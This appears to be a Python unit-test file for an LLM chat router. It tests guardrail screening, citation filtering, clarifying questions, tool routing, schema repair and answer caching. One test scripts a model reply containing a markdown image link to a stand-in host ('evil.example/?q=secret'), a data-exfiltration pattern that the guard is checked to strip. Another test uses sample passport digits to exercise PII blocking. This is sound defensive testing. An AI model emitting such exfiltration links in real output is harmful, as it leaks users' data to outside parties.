"""The chat turn with its parts: what goes in and out is screened and recorded, an unclear question is asked back, schemas hold, sources fit."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from appliance.contracts.llm.v1.api import AnswerSchema, Capabilities, ChatRequest, Finish, Rerouted, Tokens, ToolCall, ToolCalls, ToolSpec, Usage
from appliance.contracts.router.v1.agents import Agent
from appliance.contracts.router.v1.api import CitationEvent, DoneEvent, ToolCallsEvent
from appliance.contracts.router.v1.routing import Decision, Route
from appliance.contracts.tools.v1.api import ToolContext, ToolOutcome
from appliance.kit.cache import MemoryCacheStore
from appliance.kit.cache_settings import CacheSettings
from appliance.kit.errors import ApplianceError
from appliance.testing.fakes_chat_model import ScriptedChatModel
from services.router.answer_cache import AnswerCache
from services.router.guard.live_policies import LivePolicies
from services.router.guard.policy_chain import PolicyGuard
from services.router.parts import Parts
from tests.unit.router.turn_bed import ANNA, Records, Shelf, answered, last_request, passage, router, says, steps, text_of

SCHEMA = AnswerSchema("due", {"type": "object", "properties": {"day": {"type": "integer"}}, "required": ["day"], "additionalProperties": False})
BLOCKING = 'schema_version = 1\n[default]\npii = "block"\n'


def guarded(tmp_path: Path, toml: str = "") -> tuple[Parts, Records]:
    file, records = tmp_path / "guardrails.toml", Records()
    if toml:
        file.write_text(toml)
    guard = PolicyGuard(LivePolicies(file))
    assert guard.policies.problem is None
    return Parts(guard=guard, record=records), records


async def test_the_answer_cites_what_was_found_and_nothing_else() -> None:
    events = await answered(router(says("It is due in May [1].", " So says [7]."), Shelf(passage(1, "Due in May."))), "When is it due?")
    assert text_of(events) == "It is due in May [1]. So says."
    assert [event.quote for event in events if isinstance(event, CitationEvent)] == ["Due in May."]
    done = events[-1]
    assert isinstance(done, DoneEvent)
    assert (done.invented_citations, done.agent) == (1, "documents")


async def test_a_blocked_question_reaches_no_model_and_is_on_record(tmp_path: Path) -> None:
    parts, records = guarded(tmp_path, BLOCKING)
    model = says("never")
    with pytest.raises(ApplianceError, match="content_blocked"):
        await answered(router(model, parts=parts), "Мой паспорт 4509 123456, ИНН 7707083893")
    assert model.requests == []
    assert [(record["action"], record["outcome"]) for record in records.all] == [("guard.screen", "deny")]
    assert "4509" not in json.dumps(records.all, ensure_ascii=False, default=str)


async def test_an_image_that_would_carry_words_away_does_not_leave(tmp_path: Path) -> None:
    parts, records = guarded(tmp_path)
    events = await answered(router(says("Look: ![x](https://evil.", "example/?q=secret) and more"), parts=parts), "hello")
    assert "evil.example/?q" not in text_of(events).replace(" ", "")
    assert steps(events, "guard")
    assert records.all


class Unsure:
    active = True

    def __init__(self, decision: Decision) -> None:
        self.decision = decision

    async def decide(self, messages, language, *, spaces=None):
        return self.decision


async def test_when_the_way_is_unclear_the_user_is_asked_and_no_model() -> None:
    routes = Route("leave", titles={"en": "Holidays", "ru": "Отпуска"}), Route("pay", titles={"en": "Salary", "ru": "Зарплата"})
    unsure = Unsure(Decision(None, 0.3, "low", "classifier", tuple((route, 0.3) for route in routes)))
    model = says("never")
    events = await answered(router(model, parts=Parts(intents=unsure)), "Сколько мне положено?")
    assert "1. Отпуска\n2. Зарплата" in text_of(events)
    assert [option["route"] for option in steps(events, "ask")[0].detail["options"]] == ["leave", "pay"]
    assert model.requests == []


async def test_the_agent_of_a_route_brings_its_prompt_and_does_not_search_when_it_should_not() -> None:
    class Crew:
        def get(self, name: str) -> Agent | None:
            return Agent("clerk", system_prompt="You are a clerk.", retrieval=False) if name == "clerk" else None

        def all(self):
            return ()

    shelf, model = Shelf(passage(1, "text")), says("ok")
    decided = Unsure(Decision(Route("talk", "clerk"), 0.9, "high", "rule"))
    events = await answered(router(model, shelf, Parts(intents=decided, agents=Crew())), "Hello there")
    assert last_request(model).messages[0].content == "You are a clerk."
    assert shelf.asked == []
    assert events[-1].agent == "clerk"


async def test_an_agent_that_does_not_search_first_still_lets_its_tools_look_where_the_caller_may() -> None:
    class Crew:
        def get(self, name: str) -> Agent | None:
            return Agent("clerk", tools=("look",), retrieval=False) if name == "clerk" else None

        def all(self):
            return ()

    class Tools:
        def __init__(self) -> None:
            self.spaces: list[tuple[str, ...] | None] = []

        def offered(self, context: ToolContext):
            return (ToolSpec("look"),)

        async def run(self, calls, context: ToolContext):
            self.spaces.append(context.spaces)
            return tuple(ToolOutcome(call, "found") for call in calls)

    class LooksOnce(ScriptedChatModel):
        async def stream(self, request: ChatRequest):
            if request.messages[-1].role == "tool":
                yield Tokens(("done",))
                yield Finish("stop", Usage(1, 1))
            else:
                yield ToolCalls((ToolCall("c1", "look", "{}"),))
                yield Finish("tool_calls", Usage(1, 1))

    tools, shelf = Tools(), Shelf(passage(1, "text"))
    box = router(LooksOnce(capabilities=Capabilities(tools=True)), shelf, Parts(agents=Crew(), toolbox=tools))
    for asked in (None, ("legal",)):
        assert text_of(await answered(box, "Look it up", agent="clerk", spaces=asked)) == "done"
    assert tools.spaces == [None, ("legal",)]
    assert shelf.asked == []


async def test_an_answer_by_schema_is_repaired_until_it_fits() -> None:
    class Learns(ScriptedChatModel):
        async def stream(self, request: ChatRequest):
            self.requests.append(request)
            yield Tokens(('{"day": "soon"}' if len(self.requests) == 1 else '{"day": 31}',))
            yield Finish("stop", Usage(5, 3))

    model = Learns(capabilities=Capabilities(schema="asked"))
    events = await answered(router(model), "When?", answer_schema=SCHEMA)
    assert json.loads(text_of(events)) == {"day": 31}
    assert len(model.requests) == 2
    assert events[-1].usage.completion_tokens == 6


async def test_what_a_model_cannot_do_is_refused() -> None:
    quoting, plain = says("x"), says("x")
    quoting.capabilities, plain.capabilities = Capabilities(generates=False), Capabilities(tools=False)
    with pytest.raises(ApplianceError, match="schema_unsupported"):
        await answered(router(quoting), "When?", answer_schema=SCHEMA)
    with pytest.raises(ApplianceError, match="takes no tools"):
        await answered(router(plain), "When?", tools=(ToolSpec("f"),))


async def test_calls_of_the_callers_tools_go_back_to_the_caller() -> None:
    class Calls(ScriptedChatModel):
        async def stream(self, request: ChatRequest):
            yield ToolCalls((ToolCall("c1", "f", '{"a": 1}'),))
            yield Finish("tool_calls", Usage(3, 4))

    events = await answered(router(Calls()), "Do it", tools=(ToolSpec("f"),))
    assert [event.calls[0].name for event in events if isinstance(event, ToolCallsEvent)] == ["f"]
    assert events[-1].finish_reason == "tool_calls"


class Small(ScriptedChatModel):
    """Two passages are all that its context holds."""

    async def stream(self, request: ChatRequest):
        self.requests.append(request)
        if len(request.passages) > 2:
            raise ApplianceError("context_length_exceeded", "too long")
        yield Tokens(("See [2] and [4].",))
        yield Finish("stop", Usage(1, 1))


async def test_sources_that_do_not_fit_are_left_out_from_the_end_and_cannot_be_cited() -> None:
    model = Small()
    events = await answered(router(model, Shelf(*(passage(number, f"text {number}") for number in range(1, 6)))), "What?")
    assert [len(request.passages) for request in model.requests] == [5, 2]
    assert text_of(events) == "See [2] and."
    assert steps(events, "fit")[0].detail == {"passages": 2}


def caching() -> Parts:
    return Parts(cache=AnswerCache(CacheSettings(), MemoryCacheStore(entries=100, size_bytes=10**6)))


async def test_the_same_question_is_answered_once() -> None:
    model = says("May [1].")
    box = router(model, Shelf(passage(1, "Due in May.")), caching())
    first = await answered(box, "When?", options={"temperature": 0})
    second = await answered(box, "When?", options={"temperature": 0})
    assert len(model.requests) == 1
    assert text_of(first) == text_of(second) == "May [1]."
    assert [event.cached for event in (first[-1], second[-1])] == [False, True]


async def test_what_another_model_said_in_its_stead_is_not_kept() -> None:
    class StoodIn(ScriptedChatModel):
        async def stream(self, request: ChatRequest):
            self.requests.append(request)
            yield Rerouted("other", "upstream_failed")
            yield Tokens(("I stand in.",))
            yield Finish("stop", Usage(1, 1))

    model = StoodIn()
    box = router(model, parts=caching())
    for _ in range(2):
        events = await answered(box, "When?", options={"temperature": 0})
        assert events[-1].model == "other"
    assert len(model.requests) == 2


async def test_a_foreign_space_and_an_unknown_agent_look_absent() -> None:
    for changes in ({"spaces": ("secret",)}, {"agent": "nobody"}):
        with pytest.raises(ApplianceError, match="not_found"):
            await answered(router(says("x")), "hello", principal=ANNA, **changes)


async def test_tools_are_refused_by_a_model_that_only_quotes_also_when_it_would_fill_a_schema() -> None:
    class Unasked:
        def format(self, *_: object):
            raise AssertionError("nothing is to be quoted")

    shelf = Shelf(passage(1, "Due in May."))
    reader = ScriptedChatModel(capabilities=Capabilities(generates=False))
    for schema in (None, SCHEMA):
        with pytest.raises(ApplianceError, match="takes no tools") as refused:
            await answered(router(reader, shelf, Parts(schema_guided=Unasked())), "When?", tools=(ToolSpec("clock"),), answer_schema=schema)
        assert (refused.value.code, refused.value.context["param"]) == ("invalid_request", "tools")
    assert not shelf.asked
    assert not reader.requests
